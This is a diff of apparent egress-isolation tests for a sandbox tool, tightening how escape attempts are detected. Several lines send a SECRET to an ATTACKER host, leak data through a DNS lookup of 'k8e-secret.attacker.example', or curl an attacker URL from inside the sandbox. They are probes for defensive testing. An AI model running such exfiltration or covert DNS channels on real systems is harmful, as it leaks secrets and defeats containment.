@@ -13,10 +13,10 @@ def attempts():
     yield "ESCAPED bad", lambda: say(address, 80, get("bad.example"), wait=1)
     yield "ESCAPED attacker", lambda: say(ATTACKER, 443, hello("bad.example"), wait=1)
     yield "ESCAPED echo", lambda: say(ATTACKER, 7777, SECRET, wait=1)
-    yield "ESCAPED name", lambda: resolve("k8e-secret.attacker.example")
+    yield "ESCAPED name", lambda: str(resolve("k8e-secret.attacker.example") or "").encode()
 def again(name, attempt):
     while True:
-        if attempt():
+        if not refused(attempt()):
             with open("/tmp/worked", "a") as file: file.write(name + "\n")
         time.sleep(0.03)
 address = resolve("good.example")[0]
@@ -116,7 +116,7 @@ fn rules_survive_as_they_were_last() {
             let expected = rules.split(',').collect::<Vec<_>>();
             assert_eq!(got["allowed_hosts"], serde_json::json!(expected), "{got}");
             let curl = |name: &str| {
-                let code = format!("curl -sS --max-time 10 http://{name}/");
+                let code = format!("curl -sSf --max-time 10 http://{name}/");
                 let run = ["sandbox", "run", "--raw", "--session-id", &id, &code];
                 world.server.k8e(&run)
             };
@@ -149,7 +149,7 @@ fn whoever_is_made_while_the_server_dies_is_closed_too() {
     world.internet.forget();
     for id in world.server.session_ids() {
         let code = format!(
-            "curl -s --max-time 5 http://{ATTACKER}/k8e-secret && echo ESCAPED; curl -sS --max-time 10 http://good.example/"
+            "curl -sf --max-time 5 http://{ATTACKER}/k8e-secret && echo ESCAPED; curl -sSf --max-time 10 http://good.example/"
         );
         let run = ["sandbox", "run", "--raw", "--session-id", &id, &code];
         let ran = world.server.k8e(&run);
